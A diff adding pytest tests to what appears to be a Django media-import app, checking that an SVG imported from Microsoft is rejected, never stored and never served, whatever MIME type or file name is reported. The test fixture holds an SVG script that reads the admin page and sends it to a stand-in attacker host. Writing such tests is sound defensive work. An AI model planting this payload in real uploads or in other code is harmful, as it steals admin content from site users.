@@ -700,3 +700,40 @@ def test_a_failed_import_can_be_retried_and_then_completes(browser, ann, queued,
     assert queued() == [MediaEntry.Status.READY]
     entry.refresh_from_db()
     assert entry.media.read() == CLIP and entry.error == ""
+
+
+# -- active content (issue 13): Microsoft's reported type and name are never what is stored or served ----------
+
+LOGO_SVG = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>'
+            b"fetch('/admin/').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script></svg>")
+LOGO = dict(INTRO, name="logo.svg", size=len(LOGO_SVG), file={"mimeType": "image/svg+xml"})
+
+
+@responses.activate
+@pytest.mark.parametrize("reported", [
+    {"name": "logo.svg", "file": {"mimeType": "image/svg+xml"}},
+    {"name": "logo.svg", "file": {"mimeType": "application/octet-stream"}},
+    {"name": "logo.png", "file": {"mimeType": "image/png"}},
+], ids=["reported-svg", "octet-stream-named-svg", "claims-to-be-png"])
+def test_an_imported_svg_with_a_script_fails_with_a_reason_and_is_never_served(ann, browser, media_root, reported):
+    item = dict(LOGO, **reported)
+    responses.get(ITEM, json=item)
+    responses.get(CONTENT, status=302, headers={"Location": DOWNLOAD})
+    responses.get(DOWNLOAD, body=LOGO_SVG, headers={"Content-Type": reported["file"]["mimeType"]})
+
+    status, entry = run_task(pending(ann, item))
+
+    assert (status, entry.media.name, entry.content_type) == (MediaEntry.Status.FAILED, "", "")
+    assert entry.error, "the owner is told why"
+    served = browser.get(reverse("mediaspace:entry_media", args=[entry.pk]))
+    assert served.status_code == 404 and "svg" not in served["Content-Type"] and LOGO_SVG not in served.content
+    assert not list(media_root.rglob("*.svg")) and not list(media_root.rglob("*.png"))
+
+
+@responses.activate
+@pytest.mark.parametrize("mime_type", ["image/svg+xml", "application/octet-stream"])
+def test_the_picker_refuses_an_svg_whatever_microsoft_calls_it(browser, ann, queued, mime_type):
+    responses.get(ITEM, json=dict(LOGO, file={"mimeType": mime_type}))
+    response = select(browser, LOGO)
+    assert flashed(response) == ["Not imported: logo.svg (Not a video, audio or image file)."]
+    assert not MediaEntry.objects.filter(owner=ann).exists() and queued.jobs == []
